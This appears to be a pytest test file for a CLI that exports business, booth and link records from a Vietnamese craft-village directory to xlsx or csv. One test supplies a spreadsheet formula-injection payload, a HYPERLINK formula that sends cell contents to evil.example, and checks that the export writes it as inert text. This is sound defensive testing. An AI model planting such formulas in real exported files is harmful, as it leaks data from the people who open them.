"""`ketnoi export enterprises|booths`: the filtered rows in a file, with phones and tax codes
(server staff run it), logged; bad filters are one line and exit 2."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import openpyxl
import pytest

import main
from bot.app import App
from storage.chain import RequestStatus
from storage.enterprises import EnterpriseStatus
from tests.fair_data import make_fair
from tests.handlers.partners.members import member, person
from tests.handlers.registration_walk import ward_code
from tests.handlers.staff.staff_data import add_enterprise, audit_entries


async def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    capsys.readouterr()
    code = await asyncio.to_thread(main.main, argv)
    out = capsys.readouterr()
    return code, out.out, out.err


async def test_export_enterprises_of_one_ward_as_xlsx(
    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await add_enterprise(
        app, "p1", "Cơ sở gốm Minh Hải", tax_code="0100109106", status=EnterpriseStatus.APPROVED
    )
    await add_enterprise(app, "p2", "Hợp tác xã mây tre Phú Vinh", ward_code=ward_code("Phú Nghĩa"))
    await add_enterprise(app, "p3", "Lò gốm Đức Ánh", phone="+84903333444")
    target = tmp_path / "bat-trang.xlsx"
    code, out, _ = await _run(
        [
            "export",
            "enterprises",
            "--ward",
            "bat trang",
            "--status",
            "approved",
            "--purpose",
            "contact",
            "-o",
            str(target),
        ],
        capsys,
    )
    assert code == 0 and "1 rows" in out
    ws = openpyxl.load_workbook(target).active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:2] == ("Mã hồ sơ", "Tên cơ sở")
    assert len(rows) == 2 and rows[1][1] == "Cơ sở gốm Minh Hải"
    assert "0100109106" in rows[1] and "0912 345 678" in rows[1]
    [entry] = await audit_entries(app)
    assert (entry.actor, entry.action, entry.target) == ("cli", "export.enterprises", str(target))
    assert entry.after["ward"] == "00577" and entry.after["rows"] == 1
    assert entry.after["purpose"] == "contact"


async def test_export_booths_of_a_fair_as_english_csv(
    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    svc = app.router.services
    e = await add_enterprise(app, "p1", "Cơ sở gốm Minh Hải", status=EnterpriseStatus.APPROVED)
    fair = await make_fair(app)
    async with svc.db.transaction():
        await svc.booths.apply(fair.id, e.id, e.account_id, 2, "Bình hút lộc")
    target = tmp_path / "booths.csv"
    argv = ["export", "booths", "--fair", "test-fair", "--lang", "en", "--purpose", "hội chợ"]
    code, _, _ = await _run([*argv, "-o", str(target)], capsys)
    assert code == 0
    content = target.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    lines = content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Application,Fair,Fair key,Fair opens,Establishment name")
    assert len(lines) == 2 and "Bình hút lộc" in lines[1] and "2026-12-07 08:00" in lines[1]


@pytest.mark.parametrize(
    ("args", "problem"),
    [
        (["--sector", "pottery"], "--sector 'pottery'"),
        (["--status", "allocated"], "--status 'allocated'"),
        (["--fair", "no-such-fair"], "--fair 'no-such-fair'"),
        (["--ward", "Atlantis"], "--ward 'Atlantis'"),
    ],
    ids=["sector", "status", "fair", "ward"],
)
async def test_bad_filters_are_one_line(
    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], problem: str
) -> None:
    target = tmp_path / "x.xlsx"
    code, _, err = await _run(
        ["export", "enterprises", *args, "--purpose", "report", "-o", str(target)], capsys
    )
    assert code == 2 and problem in err and len(err.strip().splitlines()) == 1
    assert not target.exists()


async def test_the_purpose_is_required_and_said(
    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "x.xlsx"
    with pytest.raises(SystemExit):
        await _run(["export", "enterprises", "-o", str(target)], capsys)
    code, _, err = await _run(
        ["export", "enterprises", "--purpose", " x ", "-o", str(target)], capsys
    )
    assert code == 2 and "--purpose" in err and not target.exists()


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
async def test_a_registrant_s_formula_is_written_as_text(
    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    await add_enterprise(app, "p1", name, contact="\t=1+1")
    target = tmp_path / f"all.{suffix}"
    code, _, _ = await _run(
        ["export", "enterprises", "--purpose", "report", "-o", str(target)], capsys
    )
    assert code == 0
    if suffix == "xlsx":
        ws = openpyxl.load_workbook(target).active
        assert ws is not None
        cells = [cell for row in ws.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        values = [c.value for c in cells]
    else:
        with target.open(encoding="utf-8-sig", newline="") as f:
            values = [v for row in csv.reader(f) for v in row]
    assert "'" + name in values and "'\t=1+1" in values
    assert not [v for v in values if str(v).startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_export_links_counts_them_without_personal_data(
    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    minh = await member(app, await person(app, "minh"), "Gốm Minh Hải")
    shop = await member(
        app, await person(app, "shop"), "Quà Việt", roles=("distributor",), phone="+84987654321"
    )
    chain = app.router.services.chain
    asked = await chain.ask(shop.id, minh.id, "Bát men lam", "producer>distributor", "ceramics")
    await chain.decide(asked.id, RequestStatus.ACCEPTED)
    await chain.ask(shop.id, minh.id, "Lọ hoa", "producer>distributor", "ceramics")
    target = tmp_path / "ket-noi.csv"
    code, out, _ = await _run(["export", "links", "--purpose", "report", "-o", str(target)], capsys)
    assert code == 0 and "1 rows" in out
    rows = list(csv.reader(target.open(encoding="utf-8-sig")))
    assert rows[0] == [
        "Tháng", "Cặp trong chuỗi", "Ngành nghề", "Yêu cầu đã gửi", "Đã đồng ý", "Đã từ chối",
    ]  # fmt: skip
    assert rows[1][1:] == ["Nhà sản xuất → Nhà phân phối, bán lẻ", "Gốm sứ", "2", "1", "0"]
    assert "Quà Việt" not in target.read_text(encoding="utf-8-sig")
